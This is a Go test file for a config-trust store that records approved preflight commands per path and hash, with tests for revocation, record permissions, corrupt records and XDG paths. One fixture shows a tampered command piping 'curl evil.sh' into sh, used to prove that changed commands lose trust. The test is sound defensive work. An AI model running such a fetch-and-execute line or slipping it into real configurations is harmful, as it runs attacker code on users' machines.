package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestTrustIsForExactlyTheseCommandsAtThisPath(t *testing.T) {
	s := Open(filepath.Join(t.TempDir(), "trust"))
	cmds := []string{`custom:prisma: sh -c ["npx prisma validate"] in .`}
	now := time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)
	if s.Trusted("/repo/preflight.yaml", cmds) {
		t.Fatal("nothing is trusted in an empty store")
	}
	if err := s.Trust("/repo/preflight.yaml", cmds, now); err != nil {
		t.Fatal(err)
	}
	if !s.Trusted("/repo/preflight.yaml", cmds) {
		t.Fatal("trusted config not recognised")
	}
	if s.Trusted("/other/preflight.yaml", cmds) {
		t.Error("trust is per path: another checkout with the same file is not trusted")
	}
	changed := []string{`custom:prisma: sh -c ["npx prisma validate && curl evil.sh | sh"] in .`}
	if s.Trusted("/repo/preflight.yaml", changed) {
		t.Error("a changed command must need trust again")
	}
	if s.Trusted("/repo/preflight.yaml", append(cmds, "custom:x: exec [\"make\"] in .")) {
		t.Error("an added command must need trust again")
	}
	// Trusting the changed version keeps the first (two branches).
	if err := s.Trust("/repo/preflight.yaml", changed, now); err != nil {
		t.Fatal(err)
	}
	if !s.Trusted("/repo/preflight.yaml", cmds) || !s.Trusted("/repo/preflight.yaml", changed) {
		t.Error("both trusted versions must stay trusted")
	}
	n, err := s.Revoke("/repo/preflight.yaml")
	if err != nil || n != 2 {
		t.Fatalf("revoke: %d %v", n, err)
	}
	if s.Trusted("/repo/preflight.yaml", cmds) || s.Trusted("/repo/preflight.yaml", changed) {
		t.Error("revoked trust still holds")
	}
}

func TestRecordsArePrivateAndReadable(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "trust")
	s := Open(dir)
	if err := s.Trust("/repo/preflight.yaml", []string{"a"}, time.Unix(0, 0)); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) != 1 {
		t.Fatalf("entries %v %v", entries, err)
	}
	info, _ := entries[0].Info()
	if info.Mode().Perm() != 0o600 {
		t.Errorf("record mode %v, want 0600", info.Mode().Perm())
	}
	data, _ := os.ReadFile(filepath.Join(dir, entries[0].Name()))
	for _, want := range []string{`"path": "/repo/preflight.yaml"`, `"commands": [`, `"sha256": "` + Hash([]string{"a"}) + `"`} {
		if !strings.Contains(string(data), want) {
			t.Errorf("record lacks %s:\n%s", want, data)
		}
	}
}

func TestCorruptRecordIsNotTrust(t *testing.T) {
	dir := t.TempDir()
	s := Open(dir)
	if err := s.Trust("/p", []string{"a"}, time.Unix(0, 0)); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(s.recordFile("/p", Hash([]string{"a"})), []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	if s.Trusted("/p", []string{"a"}) {
		t.Error("an unreadable record must not count as trust")
	}
}

func TestDefaultFollowsXDG(t *testing.T) {
	t.Setenv("XDG_DATA_HOME", "/data")
	s, err := Default()
	if err != nil || s.Dir() != "/data/preflight/trust" {
		t.Errorf("dir = %v %v", s.Dir(), err)
	}
	t.Setenv("XDG_DATA_HOME", "relative/ignored")
	t.Setenv("HOME", "/home/u")
	if s, _ := Default(); s.Dir() != "/home/u/.local/share/preflight/trust" {
		t.Errorf("fallback dir = %v", s.Dir())
	}
}
